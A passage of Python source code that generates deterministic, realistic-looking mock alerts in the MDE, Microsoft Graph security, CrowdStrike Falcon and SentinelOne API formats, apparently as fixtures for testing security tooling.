    return f"{prefix}{_DOTNET_TICKS_AT_EPOCH + created * 10 + digit}_{draw() - 2**31}"


# -- MDE ------------------------------------------------------------------------------------


@dataclass(frozen=True)
class _MdeTemplate:
    alert: dict[str, Any]
    process: dict[str, Any] | None
    user: dict[str, Any]
    related: dict[str, Any]
    technique: str
    running: bool
    resolved: bool

    def fill(
        self, seed: str, created: int, updated: int, first: int | None, incident_id: int | None = None
    ) -> dict[str, Any]:
        _check_order(created, updated)
        draw = _draws(seed)
        first = _activity(draw, created, first, (15, 240))
        last = min(first + _SECOND + draw() % (8 * _SECOND), created)
        created_digit = draw() % 10
        evidence_time = _ms_time(created + _SECOND + draw() % _SECOND, draw() % 10)
        evidence = []
        if self.process is not None:
            started = first - 50_000 - draw() % 850_000
            evidence.append(
                {
                    **self.process,
                    "evidenceCreationTime": evidence_time,
                    # Windows process ids are multiples of four.
                    "processId": (300 + draw() % 8700) * 4,
                    "processCreationTime": _ms_time(started, draw() % 10),
                    "parentProcessId": (100 + draw() % 3900) * 4,
                    "parentProcessCreationTime": _ms_time(
                        started - (30 + draw() % 7200) * _SECOND, draw() % 10
                    ),
                }
            )
        evidence.append({**self.user, "evidenceCreationTime": evidence_time})
        return {
            **self.alert,
            "id": _ms_alert_id("da", created, created_digit, draw),
            "incidentId": incident_id if incident_id is not None else 40_000 + draw() % 60_000,
            "investigationId": 80_000 + draw() % 20_000 if self.running else None,
            "alertCreationTime": _ms_time(created, created_digit),
            "firstEventTime": _ms_time(first, draw() % 10),
            "lastEventTime": _ms_time(last, draw() % 10),
            "lastUpdateTime": _ms_time(updated, draw() % 10),
            "resolvedTime": _ms_time(updated, 0) if self.resolved else None,
            "mitreTechniques": [self.technique],
            "relatedUser": dict(self.related),
            "comments": [],
            "evidence": evidence,
        }


@functools.lru_cache(maxsize=16384)
def _mde_template(
    hostname: str,
    user: str,
    title: str,
    tactic: str,
    technique: str,
    severity: str,
    command_line: str | None,
    device_id: str | None,
    status: str,
    description: str | None,
    category: str | None,
    parent: str,
    rbac_group: str | None,
    detection_source: str,
) -> _MdeTemplate:
    _, tactic_name = _tactic(tactic)
    level = _level(severity)
    state = _status(status)
    account = _account(user)
    label = category or tactic_name.replace(" ", "")
    running = level in ("high", "critical")
    alert: dict[str, Any] = dict.fromkeys(ALERT_FIELDS)
    alert.update(
        severity=_MDE_SEVERITY[level],
        status=_MDE_STATUS[state],
        investigationState="Running" if running else "UnsupportedAlertType",
        detectionSource=detection_source,
        detectorId=_detector_id(title, label),
        category=label,
        title=title,
        description=description or _description(title),
        machineId=device_id or machine_id(hostname),
        computerDnsName=hostname,
        rbacGroupName=rbac_group or _rbac_group(hostname),
        aadTenantId=AAD_TENANT_ID,
    )
    process = None
    if command_line:
        name, directory = _image(command_line, "windows")
        parent_name, parent_dir = _image(parent, "windows")
        _, sha1, sha256, _ = _file_facts(name)
        process = _row(
            "Process",
            "",
            sha1=sha1,
            sha256=sha256,
            fileName=name,
            filePath=directory,
            processCommandLine=command_line,
            parentProcessFileName=parent_name,
            parentProcessFilePath=parent_dir,
            detectionStatus="Prevented" if level == "critical" else "Detected",
        )
    user_row = _row(
        "User",
        "",
        accountName=account.name,
        domainName=account.domain,
        userSid=account.sid,
        aadUserId=account.aad_id,
        userPrincipalName=account.upn,
    )
    related = {"userName": account.name, "domainName": account.domain}
    return _MdeTemplate(alert, process, user_row, related, technique, running, state == "resolved")


def mde_alert(
    *,
    seed: str,
    hostname: str,
    user: str,
    title: str,
    tactic: str,
    technique: str,
    severity: str,
    command_line: str | None,
    created: datetime,
    updated: datetime,
    device_id: str | None = None,
    ip: str | None = None,
    first_seen: datetime | None = None,
    status: str = "new",
    description: str | None = None,
    category: str | None = None,
    parent: str = "explorer.exe",
    rbac_group: str | None = None,
    incident_id: int | None = None,
    detection_source: str = "WindowsDefenderAtp",
) -> dict[str, Any]:
    """One MDE API alert (`GET /api/alerts?$expand=evidence` element), every field present.

    `seed` derives the id and every incidental number (same arguments, same alert); `user` is
    `DOMAIN\\name`; `tactic` an ATT&CK tactic id or name, which becomes `category` (unless
    `category` is given); `technique` e.g. "T1059.001"; `severity` one of SEVERITY_LEVELS
    (critical becomes High: MDE has no Critical); `status` one of STATUSES; `device_id` the
    machineId (default `machine_id(hostname)`); `first_seen` the first activity (default: a
    few minutes before `created`). `ip` is accepted so that every builder takes the same
    arguments, but an MDE alert carries no device address (the machine API does).
    """
    del ip
    template = _mde_template(
        hostname,
        user,
        title,
        tactic,
        technique,
        severity,
        command_line,
        device_id,
        status,
        description,
        category,
        parent,
        rbac_group,
        detection_source,
    )
    first = None if first_seen is None else _us(first_seen, "first_seen")
    return template.fill(seed, _us(created, "created"), _us(updated, "updated"), first, incident_id)


# -- Graph ----------------------------------------------------------------------------------


def _graph_evidence(kind: str, verdict: str) -> dict[str, Any]:
    return {
        "@odata.type": f"#microsoft.graph.security.{kind}",
        "createdDateTime": None,
        "verdict": verdict,
        "remediationStatus": "none",
        "remediationStatusDetails": None,
        "roles": None,
        "detailedRoles": None,
        "tags": None,
    }


def _graph_account(account: _Account) -> dict[str, Any]:
    return {
        "accountName": account.name,
        "domainName": account.domain,
        "userSid": account.sid,
        "azureAdUserId": account.aad_id,
        "userPrincipalName": account.upn,
        "displayName": account.name.title() if account.upn else account.name,
    }


def _graph_file(name: str, directory: str) -> dict[str, Any]:
    _, sha1, sha256, size = _file_facts(name)
    microsoft = directory.lower().startswith("c:\\windows")
    return {
        "sha1": sha1,
        "sha256": sha256,
        "fileName": name,
        "filePath": directory,
        "fileSize": size,
        "filePublisher": "Microsoft Corporation" if microsoft else None,
        "signer": "Microsoft Windows" if microsoft else None,
        "issuer": "Microsoft Windows Production PCA 2011" if microsoft else None,
    }


@dataclass(frozen=True)
class _GraphTemplate:
    alert: dict[str, Any]
    device: dict[str, Any] | None
    process: dict[str, Any] | None
    image: dict[str, Any]
    parent_image: dict[str, Any]
    account: dict[str, Any]
    user: dict[str, Any]
    ip: dict[str, Any] | None
    id_prefix: str
    technique: str
    logged_on: tuple[tuple[str, str | None], ...]
    resolved: bool

    def fill(
        self, seed: str, created: int, updated: int, first: int | None, incident_id: int | None = None
    ) -> dict[str, Any]:
        _check_order(created, updated)
        draw = _draws(seed)
        first = _activity(draw, created, first, (15, 240))
        last = min(first + _SECOND + draw() % (8 * _SECOND), created)
        created_digit = draw() % 10
        alert_id = _ms_alert_id(self.id_prefix, created, created_digit, draw)
        incident = str(incident_id if incident_id is not None else 40_000 + draw() % 60_000)
        stamp = _graph_time(created + 100_000 + draw() % 800_000, draw() % 10)
        evidence: list[dict[str, Any]] = []
        if self.device is not None:
            device = self.device
            evidence.append(
                {
                    **device,
                    "createdDateTime": stamp,
                    "roles": ["compromised"],
                    "detailedRoles": ["Main device"],
                    "tags": [],
                    "ipInterfaces": list(device["ipInterfaces"]),
                    "loggedOnUsers": [{"accountName": n, "domainName": d} for n, d in self.logged_on],
                }
            )
        if self.process is not None:
            started = first - 50_000 - draw() % 850_000
            evidence.append(
                {
                    **self.process,
                    "createdDateTime": stamp,
                    "roles": [],
                    "detailedRoles": [],
                    "tags": [],
                    "processId": (300 + draw() % 8700) * 4,
                    "parentProcessId": (100 + draw() % 3900) * 4,
                    "processCreationDateTime": _graph_time(started, draw() % 10),
                    "parentProcessCreationDateTime": _graph_time(
                        started - (30 + draw() % 7200) * _SECOND, draw() % 10
                    ),
                    "imageFile": dict(self.image),
                    "parentProcessImageFile": dict(self.parent_image),
                    "userAccount": dict(self.account),
                }
            )
        evidence.append(
            {
                **self.user,
                "createdDateTime": stamp,
                "roles": ["compromised"],
                "detailedRoles": [],
                "tags": [],
                "userAccount": dict(self.account),
            }
        )
        if self.ip is not None:
            evidence.append(
                {**self.ip, "createdDateTime": stamp, "roles": ["source"], "detailedRoles": [], "tags": []}
            )
        tenant = f"?tid={AAD_TENANT_ID}"
        return {
            **self.alert,
            "id": alert_id,
            "providerAlertId": alert_id,
            "incidentId": incident,
            "alertWebUrl": f"{MS_CONSOLE}/alerts/{alert_id}{tenant}",
            "incidentWebUrl": f"{MS_CONSOLE}/incidents/{incident}{tenant}",
            "mitreTechniques": [self.technique],
            "createdDateTime": _graph_time(created, created_digit),
            "lastUpdateDateTime": _graph_time(updated, draw() % 10),
            "resolvedDateTime": _graph_time(updated, 0) if self.resolved else None,
            "firstActivityDateTime": _graph_time(first, draw() % 10),
            "lastActivityDateTime": _graph_time(last, draw() % 10),
            "comments": [],
            "systemTags": [],
            "evidence": evidence,
        }


@functools.lru_cache(maxsize=16384)
def _graph_template(
    hostname: str | None,
    user: str,
    title: str,
    tactic: str,
    technique: str,
    severity: str,
    command_line: str | None,
    device_id: str | None,
    ip: str | None,
    status: str,
    description: str | None,
    category: str | None,
    parent: str,
    rbac_group: str | None,
    service_source: str,
) -> _GraphTemplate:
    _, tactic_name = _tactic(tactic)
    level = _level(severity)
    state = _status(status)
    account = _account(user)
    label = category or tactic_name.replace(" ", "")
    verdict = "malicious" if level in ("high", "critical") else "suspicious"
    mde_id = None
    device = None
    logged_on: tuple[tuple[str, str | None], ...] = ()
    if hostname is not None:
        mde_id = device_id or machine_id(hostname)
        _, onboarded, group_id = _host_facts(hostname)
        server = _is_server(hostname)
        if account.sid not in _WELL_KNOWN_SIDS.values():
            logged_on = ((account.name, account.domain),)
        device = _graph_evidence("deviceEvidence", verdict)
        device.update(
            firstSeenDateTime=_graph_time(onboarded, 0),
            mdeDeviceId=mde_id,
            azureAdDeviceId=str(uuid.uuid5(_NAMESPACE, f"aad-device/{_short(hostname)}")),
            deviceDnsName=hostname,
            osPlatform="WindowsServer2022" if server else "Windows11",
            osBuild=20348 if server else 22631,
            version="21H2" if server else "23H2",
            healthStatus="active",
            riskScore={"critical": "high", "high": "high", "medium": "medium"}.get(level, "low"),
            rbacGroupId=group_id,
            rbacGroupName=rbac_group or _rbac_group(hostname),
            onboardingStatus="onboarded",
            defenderAvStatus="updated",
            ipInterfaces=[ip] if ip else [],
            loggedOnUsers=None,
            vmMetadata=None,
        )
    process = None
    image: dict[str, Any] = {}
    parent_image: dict[str, Any] = {}
    if command_line:
        name, directory = _image(command_line, "windows")
        parent_name, parent_dir = _image(parent, "windows")
        image, parent_image = _graph_file(name, directory), _graph_file(parent_name, parent_dir)
        process = _graph_evidence("processEvidence", verdict)
        process.update(
            processId=None,
            parentProcessId=None,
            processCommandLine=command_line,
            processCreationDateTime=None,
            parentProcessCreationDateTime=None,
            detectionStatus="prevented" if level == "critical" else "detected",
            mdeDeviceId=mde_id,
            imageFile=None,
            parentProcessImageFile=None,
            userAccount=None,
        )
    user_row = _graph_evidence("userEvidence", "suspicious")
    user_row.update(stream=None, userAccount=None)
    ip_row = None
    if hostname is None and ip:
        ip_row = _graph_evidence("ipEvidence", "suspicious")
        ip_row.update(ipAddress=ip, countryLetterCode=None, location=None, stream=None)
    alert = {
        "@odata.type": "#microsoft.graph.security.alert",
        "id": None,
        "providerAlertId": None,
        "incidentId": None,
        "status": _GRAPH_STATUS[state],
        "severity": _MDE_SEVERITY[level].lower(),
        "classification": "unknown",
        "determination": "unknown",
        "serviceSource": service_source,
        "detectionSource": service_source,
        "productName": _GRAPH_PRODUCT.get(service_source, "Microsoft Defender XDR"),
        "detectorId": _detector_id(title, label),
        "tenantId": AAD_TENANT_ID,
        "title": title,
        "description": description or _description(title),
        "recommendedActions": "Review the device timeline around the alert and contact the device owner.",
        "category": label,
        "assignedTo": None,
        "alertWebUrl": None,
        "incidentWebUrl": None,
        "actorDisplayName": None,
        "threatDisplayName": None,
        "threatFamilyName": None,
        "mitreTechniques": None,
        "createdDateTime": None,
        "lastUpdateDateTime": None,
        "resolvedDateTime": None,
        "firstActivityDateTime": None,
        "lastActivityDateTime": None,
        "comments": None,
        "systemTags": None,
        "evidence": None,
    }
    return _GraphTemplate(
        alert=alert,
        device=device,
        process=process,
        image=image,
        parent_image=parent_image,
        account=_graph_account(account),
        user=user_row,
        ip=ip_row,
        id_prefix=_GRAPH_ID_PREFIX.get(service_source, "da"),
        technique=technique,
        logged_on=logged_on,
        resolved=state == "resolved",
    )


def graph_alert(
    *,
    seed: str,
    hostname: str | None,
    user: str,
    title: str,
    tactic: str,
    technique: str,
    severity: str,
    command_line: str | None,
    created: datetime,
    updated: datetime,
    device_id: str | None = None,
    ip: str | None = None,
    first_seen: datetime | None = None,
    status: str = "new",
    description: str | None = None,
    category: str | None = None,
    parent: str = "explorer.exe",
    rbac_group: str | None = None,
    incident_id: int | None = None,
    service_source: str = "microsoftDefenderForEndpoint",
) -> dict[str, Any]:
    """One Graph security alert (`GET /v1.0/security/alerts_v2` element, evidence inline).

    Arguments as for `mde_alert`. With a `hostname` the alert carries a deviceEvidence whose
    `mdeDeviceId` is the MDE machine id (`device_id`, default `machine_id(hostname)`, so the
    device is one entity across the MDE and Graph APIs) and whose `ipInterfaces` hold `ip`;
    with `hostname=None` it is an account-only alert (identity and cloud-app services, e.g.
    `service_source="microsoftDefenderForIdentity"`), placed on `user`, `ip` its source.
    """
    template = _graph_template(
        hostname,
        user,
        title,
        tactic,
        technique,
        severity,
        command_line,
        device_id,
        ip,
        status,
        description,
        category,
        parent,
        rbac_group,
        service_source,
    )
    first = None if first_seen is None else _us(first_seen, "first_seen")
    return template.fill(seed, _us(created, "created"), _us(updated, "updated"), first, incident_id)


# -- CrowdStrike ----------------------------------------------------------------------------


def _falcon_path(directory: str, name: str, platform: str) -> str:
    if platform == "windows" and len(directory) > 1 and directory[1] == ":":
        # Falcon reports NT device paths, not drive letters.
        return f"\\Device\\HarddiskVolume3{directory[2:]}\\{name}"
    return _join(directory, name, platform)


@dataclass(frozen=True)
class _FalconTemplate:
    alert: dict[str, Any]
    device: dict[str, Any]
    parent: dict[str, Any] | None
    disposition: dict[str, Any]
    mitre: dict[str, Any]
    aid: str
    uid: str
    score: int
    device_lists: tuple[tuple[str, ...], tuple[str, ...], tuple[str, ...]]  # groups, tags, ou
    domain: str

    def fill(self, seed: str, created: int, updated: int, first: int | None) -> dict[str, Any]:
        _check_order(created, updated)
        draw = _draws(seed)
        first = _activity(draw, created, first, (15, 240))
        aid = self.aid
        tree = 10**10 + ((draw() << 32) | draw()) % (9 * 10**10)
        process = tree + 1_000 + draw() % 899_000
        parent_process = process - 1 - draw() % 999
        suffix = f"{process}-{self.alert['pattern_id']}-{10**7 + draw() % (9 * 10**7)}"
        composite_id = f"{FALCON_CID}:ind:{aid}:{suffix}"
        groups, tags, ou = self.device_lists
        alert = {
            **self.alert,
            "composite_id": composite_id,
            "id": f"ind:{aid}:{suffix}",
            "aggregate_id": f"aggind:{aid}:{tree}",
            "severity": self.score + draw() % 10,
            "mitre_attack": [dict(self.mitre)],
            "pattern_disposition_details": dict(self.disposition),
            "timestamp": _millis(first),
            "created_timestamp": _falcon_time(created, draw() % 1000),
            "updated_timestamp": _falcon_time(updated, draw() % 1000),
            "crawled_timestamp": _falcon_time(updated + 1 + draw() % 90, draw() % 1000),
            "context_timestamp": _millis(first),
            "falcon_host_link": f"{_FALCON_DETECTIONS}{composite_id}?_cid={_FALCON_UI_CID}",
            "tags": [],
            "data_domains": ["Endpoint"],
            "source_products": ["Falcon Insight"],
            "source_vendors": ["CrowdStrike"],
            "ioc_context": [],
            "ioc_values": [],
            "quarantined_files": [],
            "device": {
                **self.device,
                "agent_local_time": _millis(created - 9 * 3600 * _SECOND),
                "last_seen": _seconds(created - (60 + draw() % 240) * _SECOND),
                "modified_timestamp": _seconds(created - (30 + draw() % 60) * _SECOND),
                "groups": list(groups),
                "tags": list(tags),
                "ou": list(ou),
                "hostinfo": {"domain": self.domain},
            },
        }
        if self.parent is not None:
            started = first // _SECOND - draw() % 4
            alert.update(
                process_id=str(process),
                local_process_id=str(300 + draw() % 30_000),
                parent_process_id=str(parent_process),
                process_start_time=str(started),
                process_end_time=str(started + 1 + draw() % 30),
                tree_id=str(tree),
                tree_root=str(parent_process),
                triggering_process_graph_id=f"pid:{aid}:{process}",
                control_graph_id=f"ctg:{aid}:{tree}",
                parent_details={
                    **self.parent,
                    "local_process_id": str(300 + draw() % 30_000),
                    "process_graph_id": f"pid:{aid}:{parent_process}",
                    "process_id": str(parent_process),
                    "timestamp": _seconds(first - (30 + draw() % 7200) * _SECOND),
                    "user_graph_id": f"uid:{aid}:{self.uid}",
                },
            )
        return alert


@functools.lru_cache(maxsize=16384)
def _falcon_template(
    hostname: str,
    user: str,
    title: str,
    tactic: str,
    technique: str,
    severity: str,
    command_line: str | None,
    device_id: str | None,
    ip: str | None,
    status: str,
    name: str | None,
    description: str | None,
    parent: str | None,
    platform: str,
    external_ip: str | None,
) -> _FalconTemplate:
    tactic_id, tactic_name = _tactic(tactic)
    level = _level(severity)
    state = _status(status)
    platform = _platform(platform)
    account = _account(user)
    aid = device_id or falcon_aid(hostname)
    pattern_name = name or "".join(word[:1].upper() + word[1:] for word in title.replace("-", " ").split())
    pattern = _pattern_id(pattern_name)
    severity_name, score = _FALCON_SEVERITY[level]
    blocked = level in ("high", "critical")
    windows = platform == "windows"
    technique_name = TECHNIQUE_NAMES.get(technique, technique)
    alert: dict[str, Any] = {
        "composite_id": None,
        "id": None,
        "aggregate_id": None,
        "cid": FALCON_CID,
        "agent_id": aid,
        "name": pattern_name,
        "display_name": title,
        "description": description or _description(title),
        "severity": None,
        "severity_name": severity_name,
        "confidence": 80 if blocked else 50,
        "status": _FALCON_STATUS[state],
        "product": "epp",
        "type": "ldt",
        "platform": _FALCON_PLATFORM[platform][1],
        "scenario": "credential_theft" if tactic_id == "TA0006" else "suspicious_activity",
        "objective": _FALCON_OBJECTIVE.get(tactic_id, "Falcon Detection Method"),
        "tactic": tactic_name,
        "tactic_id": tactic_id,
        "technique": technique_name,
        "technique_id": technique,
        "mitre_attack": None,
        "pattern_id": pattern,
        "pattern_disposition": 2048 if blocked else 0,
        "pattern_disposition_description": "Prevention, process killed."
        if blocked
        else "Detection, standard detection.",
        "pattern_disposition_details": None,
        "timestamp": None,
        "created_timestamp": None,
        "updated_timestamp": None,
        "crawled_timestamp": None,
        "context_timestamp": None,
        "falcon_host_link": None,
        "show_in_ui": True,
        "email_sent": False,
        "tags": None,
        "data_domains": None,
        "source_products": None,
        "source_vendors": None,
        "user_name": account.name,
        "user_id": account.uid,
    }
    if account.domain and windows:
        alert["logon_domain"] = account.domain
    parent_details = None
    if command_line:
        image, directory = _image(command_line, platform)
        md5, _, sha256, _ = _file_facts(image)
        parent_name, parent_dir = _image(parent or ("explorer.exe" if windows else "bash"), platform)
        parent_md5, _, parent_sha256, _ = _file_facts(parent_name)
        alert.update(
            filename=image,
            filepath=_falcon_path(directory, image, platform),
            cmdline=command_line,
            md5=md5,
            # Falcon fills sha1 with zeros when it did not compute it.
            sha1="0" * 40,
            sha256=sha256,
            process_id=None,
            local_process_id=None,
            parent_process_id=None,
            process_start_time=None,
            process_end_time=None,
            tree_id=None,
            tree_root=None,
            triggering_process_graph_id=None,
            control_graph_id=None,
            has_script_or_module_ioc="false",
            cloud_indicator="false",
            alleged_filetype="exe" if windows else "",
            parent_details=None,
        )
        parent_details = {
            "cmdline": f'"{_join(parent_dir, parent_name, platform)}"',
            "filename": parent_name,
            "filepath": _falcon_path(parent_dir, parent_name, platform),
            "local_process_id": None,
            "md5": parent_md5,
            "process_graph_id": None,
            "process_id": None,
            "sha256": parent_sha256,
            "timestamp": None,
            "user_graph_id": None,
            "user_id": account.uid,
            "user_name": account.name,
        }
    alert.update(ioc_context=None, ioc_values=None, quarantined_files=None, device=None)
    mac, onboarded, _ = _host_facts(hostname)
    server = platform == "linux" or _is_server(hostname)
    department = _rbac_group(hostname).split("-", 1)[0]
    domain = EMAIL_DOMAIN if windows else ""
    device = {
        "device_id": aid,
        "cid": FALCON_CID,
        "hostname": hostname,
        "local_ip": ip,
        "external_ip": external_ip,
        "mac_address": _mac_address(mac, "-"),
        "machine_domain": domain,
        "platform_id": _FALCON_PLATFORM[platform][0],
        "platform_name": _FALCON_PLATFORM[platform][1],
        "os_version": {
            "windows": "Windows Server 2022" if server else "Windows 11",
            "linux": "Ubuntu 22.04",
            "macos": "Sonoma (14)",
        }[platform],
        "major_version": "10" if windows else "5",
        "minor_version": "0" if windows else "15",
        "product_type": "3" if server else "1",
        "product_type_desc": "Server" if server else "Workstation",
        "agent_version": "7.21.19205.0" if windows else "7.20.17308.0",
        "agent_load_flags": "1",
        "agent_local_time": None,
        "config_id_base": "65994763",
        "config_id_build": "19205" if windows else "17308",
        "config_id_platform": "3" if windows else "8",
        "first_seen": _seconds(onboarded),
        "last_seen": None,
        "modified_timestamp": None,
        "status": "normal",
        "groups": None,
        "tags": None,
        "ou": None,
        "site_name": "HQ",
        "pod_labels": None,
        "hostinfo": None,
    }
    device_lists = (
        (_uuid_hex(f"falcon/group/{department}"),),
        (f"SensorGroupingTags/{department}",),
        ("Servers" if server else "Workstations", department) if windows else (),
    )
    disposition = {
        "detect": not blocked,
        "kill_process": blocked,
        "process_blocked": False,
        "quarantine_file": False,
        "quarantine_machine": False,
        "operation_blocked": False,
        "sensor_only": False,
    }
    mitre = {
        "pattern_id": pattern,
        "tactic": tactic_name,
        "tactic_id": tactic_id,
        "technique": technique_name,
        "technique_id": technique,
    }
    return _FalconTemplate(
        alert, device, parent_details, disposition, mitre, aid, account.uid, score, device_lists, domain
    )


def crowdstrike_alert(
    *,
    seed: str,
    hostname: str,
    user: str,
    title: str,
    tactic: str,
    technique: str,
    severity: str,
    command_line: str | None,
    created: datetime,
    updated: datetime,
    device_id: str | None = None,
    ip: str | None = None,
    first_seen: datetime | None = None,
    status: str = "new",
    name: str | None = None,
    description: str | None = None,
    parent: str | None = None,
    platform: str = "windows",
    external_ip: str | None = NAT_IP,
) -> dict[str, Any]:
    """One Falcon Alerts v2 alert (`POST /alerts/entities/alerts/v2` resource).

    Arguments as for `mde_alert`, except: `title` is the `display_name` and `name` the pattern
    name (default: `title` in CamelCase); `device_id` the sensor AID (default
    `falcon_aid(hostname)`); `user` is `DOMAIN\\name` on Windows, a bare name elsewhere;
    `severity` becomes `severity_name` and a score inside its band; `platform` one of
    PLATFORMS. Falcon names a Windows host by its short upper-case name (`FIN-WS-042`).
    """
    template = _falcon_template(
        hostname,
        user,
        title,
        tactic,
        technique,
        severity,
        command_line,
        device_id,
        ip,
        status,
        name,
        description,
        parent,
        platform,
        external_ip,
    )
    first = None if first_seen is None else _us(first_seen, "first_seen")
    return template.fill(seed, _us(created, "created"), _us(updated, "updated"), first)


# -- SentinelOne ----------------------------------------------------------------------------


_S1_CONTAINER: dict[str, Any] = dict.fromkeys(("id", "image", "labels", "name"))
_S1_KUBERNETES: dict[str, Any] = dict.fromkeys(
    (
        "cluster",
        "controllerKind",
        "controllerLabels",
        "controllerName",
        "namespace",
        "namespaceLabels",
        "node",
        "pod",
        "podLabels",
    )
)
_S1_COUNTERS = {"failed": 0, "notFound": 0, "pendingReboot": 0, "success": 1, "total": 1}
_S1_KILL: dict[str, Any] = {
    "action": "kill",
    "actionsCounters": None,
    "agentSupportsReport": True,
    "groupNotFound": False,
    "lastUpdate": None,
    "latestReport": None,
    "mitigationEndedAt": None,
    "mitigationStartedAt": None,
    "status": "success",
}
_S1_QUARANTINE = {**_S1_KILL, "action": "quarantine"}


@dataclass(frozen=True)
class _S1Template:
    threat: dict[str, Any]
    detection: dict[str, Any]
    realtime: dict[str, Any]
    interface: dict[str, Any]
    info: dict[str, Any]
    indicator: tuple[str, str, str, str]  # category, description, tactic, technique
    mitigated: bool
    dynamic: bool

    def fill(self, seed: str, created: int, updated: int, first: int | None) -> dict[str, Any]:
        _check_order(created, updated)
        draw = _draws(seed)
        first = _activity(draw, created, first, (1, 5))
        threat_id = str(((created // 1000 - _S1_ID_ORIGIN_MS) << 22) | (draw() & 0x3FFFFF))
        actions: list[dict[str, Any]] = []
        if self.mitigated:
            at = _s1_time(created - 1_000 - draw() % 900_000)
            times = {"lastUpdate": at, "mitigationEndedAt": at, "mitigationStartedAt": at}
            actions.append({**_S1_KILL, **times})
            actions.append({**_S1_QUARANTINE, **times, "actionsCounters": dict(_S1_COUNTERS)})
        category, description, tactic_name, technique = self.indicator
        realtime = {
            **self.realtime,
            "networkInterfaces": [
                {
                    **self.interface,
                    "inet": list(self.interface["inet"]),
                    "inet6": list(self.interface["inet6"]),
                }
            ],
            "scanFinishedAt": _s1_time(created - (2 + draw() % 28) * 3600 * _SECOND),
            "scanStartedAt": _s1_time(created - 31 * 3600 * _SECOND),
            "userActionsNeeded": [],
        }
        dynamic = self.dynamic
        return {
            **self.threat,
            "id": threat_id,
            "agentDetectionInfo": {**self.detection, "cloudProviders": {}},
            "agentRealtimeInfo": realtime,
            "containerInfo": dict(_S1_CONTAINER),
            "kubernetesInfo": dict(_S1_KUBERNETES),
            "indicators": [
                {
                    "category": category,
                    "description": description,
                    "ids": [10 + draw() % 590],
                    "tactics": [
                        {
                            "name": tactic_name,
                            "source": "MITRE",
                            "techniques": [{"name": technique, "link": _technique_link(technique)}],
                        }
                    ],
                }
            ],
            "mitigationStatus": actions,
            "threatInfo": {
                **self.info,
                "collectionId": str(int(threat_id) - 1 - draw() % 9_999),
                "createdAt": _s1_time(created),
                "detectionEngines": [
                    {"key": "executables", "title": "Behavioral AI"}
                    if dynamic
                    else {"key": "pre_execution_suspicious", "title": "On-Write Static AI - Suspicious"}
                ],
                "engines": ["Behavioral AI"] if dynamic else ["On-Write DFI - Suspicious"],
                "identifiedAt": _s1_time(first),
                "storyline": f"{draw():08X}{draw():08X}",
                "threatId": threat_id,
                "updatedAt": _s1_time(updated),
            },
            "whiteningOptions": ["hash", "path"],
        }


@functools.lru_cache(maxsize=16384)
def _s1_template(
    hostname: str,
    user: str,
    title: str,
    tactic: str,
    technique: str,
    severity: str,
    command_line: str | None,
    device_id: str | None,
    ip: str | None,
    status: str,
    classification: str,
    platform: str,
    description: str | None,
    parent: str | None,
    file_path: str | None,
    mitigated: bool | None,
) -> _S1Template:
    _, tactic_name = _tactic(tactic)
    level = _level(severity)
    state = _status(status)
    platform = _platform(platform)
    account = _account(user)
    confidence = {"critical": "malicious", "high": "malicious", "informational": "n/a"}.get(
        level, "suspicious"
    )
    is_mitigated = level != "critical" if mitigated is None else mitigated
    agent_id = device_id or sentinelone_agent_id(hostname)
    agent_uuid = _uuid_hex(f"s1/uuid/{_short(hostname)}")
    os_name, os_revision, machine_type, interface, agent_version = _S1_OS[platform]
    mac, onboarded, _ = _host_facts(hostname)
    group_id, group_name = _S1_GROUPS[platform]
    site_id, site_name = _S1_SITE
    account_id, account_name = _S1_ACCOUNT
    domain = AD_DOMAIN if platform == "windows" else ""
    ipv6 = f"fe80::{mac[:4]}:{mac[4:8]}:{mac[8:]}"
    if file_path is None:
        image, directory = _image(command_line or title, platform)
        file_path = _join(directory, image, platform)
    file_name = file_path.replace("\\", "/").rsplit("/", 1)[-1]
    _, sha1, _, size = _file_facts(file_name)
    incident, incident_description = _S1_STATUS[state]
    dynamic = level in ("high", "critical")
    detection = {
        "accountId": account_id,
        "accountName": account_name,
        "agentDetectionState": None,
        "agentDomain": domain,
        "agentIpV4": ip or "",
        "agentIpV6": ipv6,
        "agentLastLoggedInUpn": account.upn,
        "agentLastLoggedInUserMail": account.upn,
        "agentLastLoggedInUserName": account.qualified,
        "agentMitigationMode": "protect",
        "agentOsName": os_name,
        "agentOsRevision": os_revision,
        "agentRegisteredAt": _s1_time(onboarded),
        "agentUuid": agent_uuid,
        "agentVersion": agent_version,
        "cloudProviders": None,
        "externalIp": NAT_IP,
        "groupId": group_id,
        "groupName": group_name,
        "siteId": site_id,
        "siteName": site_name,
    }
    realtime = {
        "accountId": account_id,
        "accountName": account_name,
        "activeThreats": 0 if is_mitigated else 1,
        "agentComputerName": hostname,
        "agentDecommissionedAt": None,
        "agentDomain": domain,
        "agentId": agent_id,
        "agentInfected": not is_mitigated,
        "agentIsActive": True,
        "agentIsDecommissioned": False,
        "agentMachineType": machine_type,
        "agentMitigationMode": "protect",
        "agentNetworkStatus": "connected",
        "agentOsName": os_name,
        "agentOsRevision": os_revision,
        "agentOsType": platform,
        "agentUuid": agent_uuid,
        "agentVersion": agent_version,
        "groupId": group_id,
        "groupName": group_name,
        "networkInterfaces": None,
        "operationalState": "na",
        "rebootRequired": False,
        "scanAbortedAt": None,
        "scanFinishedAt": None,
        "scanStartedAt": None,
        "scanStatus": "finished",
        "siteId": site_id,
        "siteName": site_name,
        "storageName": None,
        "storageType": None,
        "userActionsNeeded": None,
    }
    network = {
        "id": str(int(agent_id) + 1) if agent_id.isdigit() else agent_id + "-1",
        "name": interface,
        "inet": (ip,) if ip else (),
        "inet6": (ipv6,),
        "physical": _mac_address(mac, ":"),
    }
    info = {
        "analystVerdict": "undefined",
        "analystVerdictDescription": "Undefined",
        "automaticallyResolved": False,
        "browserType": None,
        "certificateId": "",
        "classification": classification,
        "classificationSource": "Engine" if dynamic else "Static",
        "cloudFilesHashVerdict": "black" if confidence == "malicious" else "provider_unknown",
        "collectionId": None,
        "confidenceLevel": confidence,
        "createdAt": None,
        "detectionEngines": None,
        "detectionType": "dynamic" if dynamic else "static",
        "engines": None,
        "externalTicketExists": False,
        "externalTicketId": None,
        "failedActions": False,
        "fileExtension": file_name.rsplit(".", 1)[-1].upper() if "." in file_name else "",
        "fileExtensionType": "Executable",
        "filePath": file_path,
        "fileSize": size,
        "fileVerificationType": "NotSigned",
        "identifiedAt": None,
        "incidentStatus": incident,
        "incidentStatusDescription": incident_description,
        "initiatedBy": "agent_policy",
        "initiatedByDescription": "Agent Policy",
        "initiatingUserId": None,
        "initiatingUsername": None,
        "isFileless": False,
        "isValidCertificate": False,
        "maliciousProcessArguments": command_line,
        "md5": None,
